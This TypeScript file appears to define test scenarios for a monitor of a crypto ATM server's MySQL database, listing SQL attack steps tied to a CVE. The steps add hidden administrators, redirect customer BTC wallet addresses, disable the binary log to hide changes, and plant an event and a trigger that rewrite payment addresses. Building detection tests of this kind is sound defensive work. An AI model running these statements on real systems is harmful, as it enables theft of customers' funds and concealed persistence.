import type { AttackStep, BoughtTerminal } from '../scenario.js';
import { ATTACKER } from './postgres.js';

const addAdministrator = (login: string) =>
  `insert into cas_user (login, password_hash, person_id, group_id)
   select '${login}', 'x', min(id), (select id from user_group where name = 'Administrator') from person`;

/**
 * August 2022 (CVE-2022-4980) against the database that CAS runs on: the same five steps as against PostgreSQL. The last three are what the same
 * attacker could do against a monitor of MySQL.
 */
export const MYSQL_ATTACK: readonly AttackStep[] = [
  {
    name: 'administrator-added',
    story: 'The forgotten setup page is called: the administrator "gb" appears.',
    sql: addAdministrator('gb'),
    collection: 'admin_users',
    evidence: '“gb”',
    silenced: false,
  },
  {
    name: 'sell-address-changed',
    story: "The address that takes customers' BTC is changed.",
    sql: `update crypto_setting set sell_wallet_address = '${ATTACKER.sellAddress}' where id = 1`,
    collection: 'wallet_routes',
    evidence: ATTACKER.sellAddress,
    silenced: false,
  },
  {
    name: 'invalid-payment-address-changed',
    story: 'The address that takes invalid payments is changed.',
    sql: `update crypto_setting set invalid_payment_address = '${ATTACKER.invalidPaymentAddress}' where id = 1`,
    collection: 'wallet_routes',
    evidence: ATTACKER.invalidPaymentAddress,
    silenced: false,
  },
  {
    name: 'terminal-added',
    story: 'Terminal BT123456 appears.',
    sql: `insert into terminal (serial_number, name, type, location_id) values ('BT123456', 'ATM', 'BATMThree', 1)`,
    collection: 'terminals',
    evidence: '“BT123456”',
    silenced: false,
  },
  {
    name: 'email-changed',
    story: "A person's e-mail address is changed.",
    sql: `update person set email = '${ATTACKER.email}' where id = 2`,
    collection: 'persons',
    evidence: ATTACKER.email,
    silenced: false,
  },
  {
    name: 'second-administrator-added',
    story: 'With the log switched off for it, a second administrator, "gb-support", is added in silence.',
    sql: `set session sql_log_bin = 0;
          ${addAdministrator('gb-support')}`,
    collection: 'admin_users',
    evidence: '“gb-support”',
    silenced: true,
    asAdministrator: true,
  },
  {
    name: 'event-planted',
    story: 'An event is planted that will change an address at night, and back in the morning.',
    sql: `create event nightly_tidy on schedule every 1 day starts '2031-01-01 02:00:00'
          do update crypto_setting set sell_wallet_address = '${ATTACKER.sellAddress}' where id = 2`,
    collection: 'sensor_cas',
    evidence: 'nightly_tidy',
    silenced: true,
  },
  {
    name: 'addresses-rewritten',
    story: 'A trigger on another table rewrites the address of each new transaction. No watched row changes.',
    sql: `create trigger tidy_address before insert on transaction for each row set new.address = '${ATTACKER.sellAddress}'`,
    collection: 'sensor_cas',
    evidence: 'tidy_address',
    silenced: true,
  },
];

/** A terminal the operator did buy. An approver accepts it and nothing else. */
export const MYSQL_BOUGHT: BoughtTerminal = {
  serialNumber: 'BT300123',
  sql: `insert into terminal (serial_number, name, type, location_id) values ('BT300123', 'Central Station', 'BATMFour', 2)`,
};
